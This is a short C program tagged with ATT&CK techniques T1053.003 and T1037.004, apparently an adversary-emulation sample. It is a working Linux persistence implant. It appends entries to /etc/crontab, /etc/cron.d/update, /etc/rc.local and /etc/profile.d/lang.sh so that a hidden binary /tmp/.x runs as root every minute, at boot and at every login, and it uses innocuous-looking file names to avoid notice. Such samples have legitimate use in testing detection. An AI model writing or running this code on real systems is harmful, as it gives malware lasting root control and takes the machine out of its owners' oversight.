/* T1053.003, T1037.004: sees to it that it is begun again, by the table of jobs, at boot, and at each login. */
#include "lib.h"

static bool add(const char *path, const char *line)
{
    int32_t file = CALL(OPENAT, AT_FDCWD, path, O_WRONLY | O_CREAT | O_APPEND, 0755);
    bool added = file >= 0 && write_all(file, line, length_of(line));
    CALL(CLOSE, file);
    return added;
}

int main(void)
{
    CALL(MKDIRAT, AT_FDCWD, "/etc/cron.d", 0755);
    CALL(MKDIRAT, AT_FDCWD, "/etc/profile.d", 0755);
    bool added = add("/etc/crontab", "* * * * * root /tmp/.x\n");
    added |= add("/etc/cron.d/update", "* * * * * root /tmp/.x\n");
    added |= add("/etc/rc.local", "/tmp/.x &\n");
    added |= add("/etc/profile.d/lang.sh", "/tmp/.x &\n");
    CALL(FCHMODAT, AT_FDCWD, "/etc/rc.local", 0755);
    print(added ? "done\n" : "no\n");
    return !added;
}
